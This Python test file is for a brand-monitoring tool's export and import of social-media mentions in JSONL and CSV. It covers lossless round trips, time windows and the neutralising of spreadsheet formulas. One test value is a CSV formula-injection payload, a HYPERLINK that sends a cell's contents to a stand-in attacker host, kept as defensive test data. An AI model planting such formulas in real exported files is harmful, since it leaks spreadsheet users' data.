"""Exports come back whole: what is imported from one equals what was exported, in both forms and past spreadsheets."""

import csv
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from monitor.brands import ensure_brand
from monitor.collecting.exporting import Exported, Wanted, export_file
from monitor.collecting.importing import import_file
from monitor.collecting.ingest import ingest_posts
from monitor.desk import NotFound
from monitor.models import Mention
from monitor.settings import Settings
from monitor.store import Store
from monitor.words import Status
from sources.base import Author, Post

AT = datetime(2026, 11, 18, 9, 31, 0, 123456, tzinfo=UTC)
LATER = AT + timedelta(days=1)  # when all of the posts are there
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEXTS = (
    "plain",
    'quotes "and", commas; semicolons\ttabs',
    "two\nlines\n\nand a third",
    FORMULA,
    "+1 for this",
    "-1",
    "@auroraair hello",
    "＝1+1",
    "'quoted' from the start",
    "'=1+1",
    " =1+1",
    "{json: [1]}",
    "\u2028 separators \x85 and عربى 日本語 😀",
    "  spaces around  ",
    "x" * 200_000,
)
Export = Callable[..., Path]


def make_posts() -> list[Post]:
    posts = [
        Post(
            "x", str(number), text, Author(f"9{number}", f"dana{number}", "=Dana", number), AT + timedelta(hours=number)
        )
        for number, text in enumerate(TEXTS)
    ]
    full = {
        "root_id": "100", "url": "https://x.example/1?a=1&b=2", "in_reply_to": "5", "thread_id": "4", "lang": "en-GB",
        "likes": 0, "reposts": 7, "extra": {"id": "inner", "n": 1, "list": [1, None, "=x"], "extra": {"a": "b"}},
    }  # fmt: skip
    posts.append(Post("reddit", "101", "an edition", Author("t2_a", "Ann", "Ann A."), AT, **full))
    posts.append(Post("rss", "https://news.example/" + "1" * 150, "author forgotten", None, AT))
    return posts


def show(store: Store, brand: str) -> list[dict[str, Any]]:
    """All that a post says, of every mention."""
    with store.read() as session:
        found = session.scalars(select(Mention).join(Mention.brand).where(Mention.brand.has(name=brand)))
        columns = (
            "source", "post_id", "root_post_id", "thread_id", "in_reply_to", "text", "url", "lang", "likes", "reposts",
            "extra", "posted_at",
        )  # fmt: skip
        rows = [
            {name: getattr(mention, name) for name in columns}
            | {name: getattr(mention.author, name, None) for name in ("platform_id", "handle", "name", "followers")}
            for mention in found
        ]
    return sorted(rows, key=lambda row: (row["source"], row["post_id"]))


@pytest.fixture
def filled(any_store: Store, settings: Settings, now: datetime) -> Store:
    with any_store.write() as session:
        brand = ensure_brand(session, "Aurora Air", now)
        ingest_posts(session, make_posts(), brand, settings.brand("Aurora Air"), LATER)
    return any_store


@pytest.fixture
def export(filled: Store, tmp_path: Path) -> Export:
    def run(form: str, **window: Any) -> Path:
        path = tmp_path / f"out.{form}"
        export_file(filled, Wanted("Aurora Air", **window), path, form)
        return path

    return run


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_what_is_exported_is_imported_without_loss(
    form: str, export: Export, filled: Store, settings: Settings, now: datetime
) -> None:
    said: list[str] = []
    done = import_file(
        filled, settings, export(form), "Copy", form, LATER, complain=said.append, progress=lambda rows: None
    )
    assert said == []
    assert done.stored == len(TEXTS) + 2
    assert show(filled, "Copy") == show(filled, "Aurora Air")


def test_a_spreadsheet_finds_no_formula(export: Export) -> None:
    with export("csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert "'" + FORMULA in cells
    assert [cell for cell in cells if cell.strip().startswith(("=", "+", "-", "@", "＝"))] == []


def test_marks_of_others_are_not_taken_away(
    any_store: Store, settings: Settings, now: datetime, tmp_path: Path
) -> None:
    path = tmp_path / "theirs.csv"
    path.write_text("id,text,author,created_at\n1,'=tis,dana,2026-11-18T09:31:00Z\n", encoding="utf-8")
    import_file(any_store, settings, path, "Copy", "csv", LATER, complain=pytest.fail, progress=lambda rows: None)
    assert [row["text"] for row in show(any_store, "Copy")] == ["'=tis"]


def test_a_window_has_its_beginning_and_not_its_end(export: Export) -> None:
    since, until = AT + timedelta(hours=2), AT + timedelta(hours=4)
    rows = [
        json.loads(line) for line in export("jsonl", since=since, until=until).read_text("utf-8").split("\n") if line
    ]
    assert [row["id"] for row in rows] == ["2", "3"]


def test_what_is_gone_is_left_out_and_counted(filled: Store, tmp_path: Path) -> None:
    with filled.write() as session:
        gone = session.scalars(select(Mention).where(Mention.post_id == "3")).one()
        gone.status, gone.text, gone.author_id = Status.GONE, "", None
    path = tmp_path / "out.jsonl"
    assert export_file(filled, Wanted("Aurora Air"), path, "jsonl") == Exported(len(TEXTS) + 1, 1)


def test_an_export_that_fails_leaves_the_old_file(filled: Store, tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    path.write_text("old")

    def fail(rows: int) -> None:
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        export_file(filled, Wanted("Aurora Air"), path, "jsonl", progress=fail)
    assert path.read_text() == "old"
    assert [each.name for each in tmp_path.iterdir() if each.is_file()] == ["out.jsonl"]


def test_an_unknown_brand_is_told(filled: Store, tmp_path: Path) -> None:
    with pytest.raises(NotFound, match="There is no brand named None"):
        export_file(filled, Wanted("None"), tmp_path / "out.jsonl", "jsonl")
    assert not (tmp_path / "out.jsonl").exists()
